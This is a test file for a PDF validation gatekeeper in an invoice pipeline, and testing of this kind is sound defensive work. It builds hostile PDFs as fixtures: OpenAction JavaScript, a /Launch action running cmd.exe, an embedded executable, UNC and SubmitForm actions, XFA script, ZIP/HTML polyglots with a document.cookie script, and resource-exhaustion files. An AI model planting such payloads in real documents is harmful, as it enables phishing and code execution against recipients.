"""The PDF gatekeeper: each kind of bad file is refused with a reason; a generated invoice passes; the work on a
hostile file is bounded by the isolated worker's CPU, memory and wall-clock limits (issue 14, findings 1 and 8)."""

from __future__ import annotations

import datetime as dt
import functools
import hashlib
import io
import struct
import subprocess
import sys
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from beg_pipeline.faturas import isolamento
from beg_pipeline.faturas.isolamento import LimitesPdf
from beg_pipeline.faturas.pdf_fatura import DadosFatura, gerar_pdf_fatura
from beg_pipeline.faturas.validacao_pdf import PdfRecusado, PdfValidado, validar_pdf

LIMITE = 20 * 1024 * 1024
FATURA = gerar_pdf_fatura(
    DadosFatura(
        operadora="Vivo",
        razao_social="BEG Telecomunicações Ltda",
        cnpj="84718741000100",
        mes_ano="11/2026",
        valor=Decimal("1234.56"),
        vencimento=dt.date(2026, 12, 10),
        filtro="0001",
    )
)


def _escrever(writer: PdfWriter) -> bytes:
    saida = io.BytesIO()
    writer.write(saida)
    return saida.getvalue()


def _fatura_alterada(alterar) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(FATURA))
    alterar(writer)
    return _escrever(writer)


def _acao(tipo: str, **campos: str) -> DictionaryObject:
    acao = DictionaryObject({NameObject("/S"): NameObject(tipo)})
    acao.update({NameObject(f"/{chave}"): TextStringObject(valor) for chave, valor in campos.items()})
    return acao


def _open_action(acao: DictionaryObject):
    return lambda writer: writer._root_object.__setitem__(NameObject("/OpenAction"), acao)


def _pdf_com_object_stream(catalogo_extra: bytes) -> bytes:
    """A PDF 1.5 whose catalog lives, compressed, inside an object stream (invisible in the raw bytes)."""
    objetos = {
        2: b"<< /Type /Catalog /Pages 3 0 R " + catalogo_extra + b" >>",
        3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 200 200] >>",
    }
    cabecalho, corpo = b"", b""
    for numero, objeto in objetos.items():
        cabecalho += b"%d %d " % (numero, len(corpo))
        corpo += objeto + b"\n"
    comprimido = zlib.compress(cabecalho + corpo)
    saida = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    posicao_objstm = len(saida)
    saida += (
        b"1 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(objetos), len(cabecalho), len(comprimido))
        + comprimido
        + b"\nendstream\nendobj\n"
    )
    posicao_xref = len(saida)
    linhas = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 1, posicao_objstm, 0)]
    linhas += [struct.pack(">BIH", 2, 1, indice) for indice in range(len(objetos))]
    linhas.append(struct.pack(">BIH", 1, posicao_xref, 0))
    tabela = b"".join(linhas)
    saida += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % len(tabela)
        + tabela
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % posicao_xref
    )
    return saida


def test_generated_invoice_passes():
    validado = validar_pdf(FATURA, LIMITE)
    assert validado == PdfValidado(sha256=hashlib.sha256(FATURA).hexdigest(), paginas=1)


def test_clean_object_stream_pdf_passes():
    pdf = _pdf_com_object_stream(b"")
    assert len(PdfReader(io.BytesIO(pdf)).pages) == 1
    assert validar_pdf(pdf, LIMITE).paginas == 1


@pytest.mark.parametrize(
    ("conteudo", "motivo"),
    [
        (b"", "arquivo vazio"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, "executável"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "executável"),
        (b"<!DOCTYPE html>\n<html><head><title>Login</title></head></html>", "HTML"),
        (b"PK\x03\x04" + b"\x00" * 100, "ZIP"),
        (b"%PDF-1.4\nbinario", "truncado"),
        (FATURA[: len(FATURA) // 2], "truncado"),
        (FATURA[: len(FATURA) // 2] + b"\n%%EOF\n", "ilegível"),
        (b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n", "ilegível"),
    ],
    ids=["vazio", "exe", "elf", "html", "zip", "so-cabecalho", "metade", "metade-com-eof", "lixo"],
)
def test_files_that_are_not_sound_pdfs_are_refused(conteudo, motivo):
    with pytest.raises(PdfRecusado, match=motivo):
        validar_pdf(conteudo, LIMITE)


def test_oversize_is_refused_naming_the_limit_in_mb():
    with pytest.raises(PdfRecusado, match=r"limite de 1 MB"):
        validar_pdf(FATURA + b" " * (1024 * 1024), 1024 * 1024)
    with pytest.raises(PdfRecusado, match=r"limite de 0,5 MB"):
        validar_pdf(b"%PDF-" + b"0" * (600 * 1024), 512 * 1024)


def test_pdf_recusado_is_a_value_error():
    assert issubclass(PdfRecusado, ValueError)


ENCRIPTADOS = {
    "senha-de-usuario": lambda w: w.encrypt("segredo"),
    "so-senha-de-dono": lambda w: w.encrypt("", "dono", algorithm="AES-256"),
}


@pytest.mark.parametrize("cifrar", ENCRIPTADOS.values(), ids=ENCRIPTADOS.keys())
def test_encrypted_pdf_is_refused(cifrar):
    with pytest.raises(PdfRecusado, match="criptografado"):
        validar_pdf(_fatura_alterada(cifrar), LIMITE)


def _anotacao_com_aa(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _acao("/URI", URI="http://x")})


ATIVOS = {
    "openaction-javascript": (_open_action(_acao("/JavaScript", JS="app.alert(1)")), "/OpenAction.*JavaScript"),
    "javascript-no-name-tree": (lambda w: w.add_open_action(JavaScript("this.print();")), "JavaScript"),
    "launch": (_open_action(_acao("/Launch", F="cmd.exe")), "/OpenAction.*Launch"),
    "anexo": (lambda w: w.add_attachment("nota.exe", b"MZ\x90\x00"), "arquivo embutido"),
    "acoes-automaticas": (_anotacao_com_aa, "ações automáticas"),
}


@pytest.mark.parametrize(("alterar", "motivo"), ATIVOS.values(), ids=ATIVOS.keys())
def test_active_content_is_refused(alterar, motivo):
    with pytest.raises(PdfRecusado, match=motivo):
        validar_pdf(_fatura_alterada(alterar), LIMITE)


def test_javascript_hidden_in_compressed_object_stream_is_found():
    pdf = _pdf_com_object_stream(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    assert b"JavaScript" not in pdf
    with pytest.raises(PdfRecusado, match="JavaScript"):
        validar_pdf(pdf, LIMITE)


def test_name_escapes_do_not_hide_javascript():
    pdf = _fatura_alterada(lambda w: None).replace(b"/Type /Catalog", b"/Type /Catalog /J#61vaScript 1", 1)
    with pytest.raises(PdfRecusado, match="JavaScript"):
        validar_pdf(pdf, LIMITE)


def test_names_that_merely_start_like_active_ones_pass():
    extras = {NameObject("/AAPL"): NameObject("/JSON"), NameObject("/Launcher"): NameObject("/X")}
    pdf = _fatura_alterada(lambda w: w._root_object.update(extras))
    assert validar_pdf(pdf, LIMITE).paginas == 1


# --------------------------------------------------------------------------- finding 1: bounded work


def pdf_de_objetos(objetos: dict[int, bytes], raiz: int = 1) -> bytes:
    """A PDF 1.4 with these numbered objects and a correct xref table."""
    partes, posicoes, tamanho = [b"%PDF-1.4\n"], {}, 9
    for numero in sorted(objetos):
        posicoes[numero] = tamanho
        partes.append(b"%d 0 obj\n%s\nendobj\n" % (numero, objetos[numero]))
        tamanho += len(partes[-1])
    total = max(objetos) + 1
    partes.append(b"xref\n0 %d\n0000000000 65535 f \n" % total)
    partes += [b"%010d 00000 n \n" % posicoes.get(numero, 0) for numero in range(1, total)]
    partes.append(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (total, raiz, tamanho))
    return b"".join(partes)


def pdf_com_muitos_objetos(n: int) -> bytes:
    """One blank page and ``n`` small chained objects (200,000: 14 MB; 6.7 s of CPU and 450 MB to walk)."""
    objetos = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    objetos.update({k: b"<< /N %d /V [%d 0 R] >>" % (k, k - 1) for k in range(4, n + 4)})
    return pdf_de_objetos(objetos)


def com_comentarios_stream(linhas: int) -> bytes:
    """The invoice with ``linhas`` comment lines ``%stream`` and no ``endstream`` before its trailer: the old
    stream-skipping regex rescanned the rest of the file for each (2k lines 0.2 s, 8k 2.3 s, 32k 64 s of CPU)."""
    posicao = FATURA.rindex(b"trailer")
    return FATURA[:posicao] + b"%stream\n" * linhas + FATURA[posicao:]


def test_comment_padding_is_checked_with_linear_work():
    """The whole check of the 32k-line file runs in a fresh interpreter where every process (the validation worker
    inherits the limit) may use 3 s of CPU: the kernel kills whatever goes over. The quadratic scan needed 64 s."""
    programa = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_CPU, (3, 3))\n"
        "from beg_pipeline.faturas.validacao_pdf import validar_pdf\n"
        "print(validar_pdf(sys.stdin.buffer.read(), 20 * 1024 * 1024).paginas)\n"
    )
    resultado = subprocess.run([sys.executable, "-c", programa], input=com_comentarios_stream(32_000),
                               capture_output=True, timeout=300, check=False)
    assert (resultado.returncode, resultado.stdout) == (0, b"1\n"), resultado.stderr[-2000:]


@pytest.mark.parametrize("linhas", [8_000, 32_000, 128_000])
def test_comment_padding_fits_a_one_second_cpu_budget(linhas):
    """Linear: four times the lines is four times the work, far inside 1 s of CPU (128k lines: 1 MB)."""
    pdf = com_comentarios_stream(linhas)
    assert validar_pdf(pdf, LIMITE, limites=LimitesPdf(cpu_s=1)).paginas == 1


@functools.cache
def muitos_objetos() -> bytes:
    return pdf_com_muitos_objetos(200_000)


LIMITES_ESTOURADOS = {
    "cpu": (LimitesPdf(cpu_s=1), r"excedeu o limite de 1 s de processamento"),
    # pypdf swallows some MemoryErrors and retries in its repair mode: then the CPU limit ends it
    "memoria": (LimitesPdf(memoria_mb=300, cpu_s=5), r"excedeu o limite de (300 MB de memória|5 s de processamento)"),
    "tempo": (LimitesPdf(cpu_s=600, tempo_s=0.5), r"não terminou em 0.5 s"),
}


@pytest.mark.parametrize(("limites", "motivo"), LIMITES_ESTOURADOS.values(), ids=LIMITES_ESTOURADOS.keys())
def test_a_file_over_a_limit_is_refused_and_the_next_one_is_checked(limites, motivo):
    """The 200k-object file needs ~7 s of CPU and ~450 MB: each limit stops it with a clear refusal, the worker
    that hit it is replaced, and the caller goes on."""
    with pytest.raises(PdfRecusado, match=rf"PDF complexo demais para verificar com segurança \({motivo}\)"):
        validar_pdf(muitos_objetos(), LIMITE, limites=limites)
    assert validar_pdf(FATURA, LIMITE).paginas == 1


def test_workers_see_no_secret_of_the_environment(monkeypatch):
    """The worker parses hostile bytes: it is started with PATH and PYTHONPATH only (read from /proc)."""
    monkeypatch.setenv("BEG_SECRET_KEY", "canario-chave-7f3a")
    monkeypatch.setenv("BEG_RPA_TOKEN", "canario-token-7f3a")
    trabalhador = isolamento._Trabalhador()
    try:
        ambiente = Path(f"/proc/{trabalhador.processo.pid}/environ").read_bytes()
    finally:
        trabalhador.encerrar()
    assert b"canario" not in ambiente
    assert sorted(v.split(b"=")[0] for v in ambiente.split(b"\0") if v) == [b"PATH", b"PYTHONPATH"]


def test_a_worker_that_ended_while_idle_does_not_fail_the_next_file():
    with ThreadPoolExecutor(2) as pool:  # both workers started and left idle
        assert list(pool.map(lambda _: validar_pdf(FATURA, LIMITE).paginas, range(4))) == [1] * 4
    ociosos = list(isolamento._grupo().livres)
    assert ociosos
    for trabalhador in ociosos:  # our own children, killed by their handles
        trabalhador.processo.kill()
        trabalhador.processo.wait()
    assert validar_pdf(FATURA, LIMITE).paginas == 1


# --------------------------------------------------------------------------- finding 8: actions and polyglots


def _link(acao: DictionaryObject):
    """A link annotation on page 1 that runs ``acao`` when clicked."""

    def alterar(writer: PdfWriter) -> None:
        anotacao = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(20)]),
            NameObject("/A"): acao,
        })
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(anotacao)])

    return alterar


def _xfa_com_script(writer: PdfWriter) -> None:
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
                 b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform>'
                 b"</template></xdp:xdp>")
    formulario = DictionaryObject({NameObject("/Fields"): ArrayObject(),
                                   NameObject("/XFA"): writer._add_object(xfa.flate_encode())})
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(formulario)


def _zip(comentario_ate_o_fim: bytes = b"") -> bytes:
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w") as arquivo:
        arquivo.writestr("leia-me.html", "<script>alert(1)</script>")
    dados = saida.getvalue()
    # the end-of-central-directory record's comment length covers the bytes that follow, as a ZIP reader expects
    return dados[:-2] + struct.pack("<H", len(comentario_ate_o_fim))


def _zip_antes_do_eof() -> bytes:
    """A ZIP in a comment before the trailer; its archive comment spans the trailer up to the final %%EOF."""
    posicao = FATURA.rindex(b"trailer")
    fim = b"\n" + FATURA[posicao:]
    return FATURA[:posicao] + b"%" + _zip(fim) + fim


def _html_em_comentario() -> bytes:
    quebra = FATURA.index(b"\n") + 1
    return FATURA[:quebra] + b"%<html><body><script>alert(document.cookie)</script></body></html>\n" + FATURA[quebra:]


def _svg_em_texto() -> bytes:
    """The title string (same length, so the xref stays right) holds a tag with an event handler."""
    titulo = b"(Fatura Vivo 11/2026)"
    assert titulo in FATURA
    return FATURA.replace(titulo, b"(<svg onload=f()>" + b" " * (len(titulo) - 18) + b")")


HOSTIS_8 = {
    "openaction-uri": (_open_action(_acao("/URI", URI="https://exemplo.com/rastreio")), r"/OpenAction /URI"),
    "openaction-gotor-unc": (_open_action(_acao("/GoToR", F="\\\\servidor\\share\\a.pdf")), r"/OpenAction /GoToR"),
    "link-gotor-unc": (_link(_acao("/GoToR", F="\\\\servidor\\share\\a.pdf")), r"/GoToR \(abre um arquivo"),
    "submitform": (_link(_acao("/SubmitForm", F="https://coletor.exemplo.com/")), r"/SubmitForm"),
    "importdata": (_link(_acao("/ImportData", F="dados.fdf")), r"/ImportData"),
    "xfa-com-script": (_xfa_com_script, r"formulário XFA"),
}


@pytest.mark.parametrize(("alterar", "motivo"), HOSTIS_8.values(), ids=HOSTIS_8.keys())
def test_actions_that_reach_outside_are_refused(alterar, motivo):
    with pytest.raises(PdfRecusado, match=rf"PDF com conteúdo ativo não é aceito: .*{motivo}"):
        validar_pdf(_fatura_alterada(alterar), LIMITE)


POLIGLOTAS = {
    "zip-depois-do-eof": (lambda: FATURA + _zip(), r"bytes depois do marcador final %%EOF"),
    "zip-antes-do-eof": (_zip_antes_do_eof, r"ao mesmo tempo PDF e ZIP"),
    "html-em-comentario": (_html_em_comentario, r"ao mesmo tempo PDF e página HTML"),
    "svg-em-texto": (_svg_em_texto, r"ao mesmo tempo PDF e página HTML"),
    "objeto-depois-do-eof": (lambda: FATURA + b"99 0 obj\n(conteudo anexado)\nendobj\n", r"depois do marcador final"),
}


@pytest.mark.parametrize(("conteudo", "motivo"), POLIGLOTAS.values(), ids=POLIGLOTAS.keys())
def test_polyglots_and_data_after_the_end_are_refused(conteudo, motivo):
    pdf = conteudo()
    assert PdfReader(io.BytesIO(pdf)).pages  # still opens as a PDF: only the gatekeeper stops it
    with pytest.raises(PdfRecusado, match=motivo):
        validar_pdf(pdf, LIMITE)


def test_zip_polyglot_opens_as_a_zip():
    assert zipfile.ZipFile(io.BytesIO(_zip_antes_do_eof())).namelist() == ["leia-me.html"]


INOFENSIVOS = {
    "openaction-goto": lambda w: w._root_object.__setitem__(
        NameObject("/OpenAction"), _acao("/GoTo", D="pagina1")),
    "link-uri-https": _link(_acao("/URI", URI="https://www.vivo.com.br/segunda-via")),
    "html-escrito-como-texto": lambda w: w.add_metadata({"/Subject": "valor < limite; a > b"}),
}


@pytest.mark.parametrize("alterar", INOFENSIVOS.values(), ids=INOFENSIVOS.keys())
def test_passive_structures_still_pass(alterar):
    assert validar_pdf(_fatura_alterada(alterar), LIMITE).paginas == 1


@pytest.mark.parametrize("final", [b"\n", b"\r\n", b"\n\x00\x00\x00 \n"])
def test_whitespace_after_the_end_passes(final):
    assert validar_pdf(FATURA.rstrip() + final, LIMITE).paginas == 1
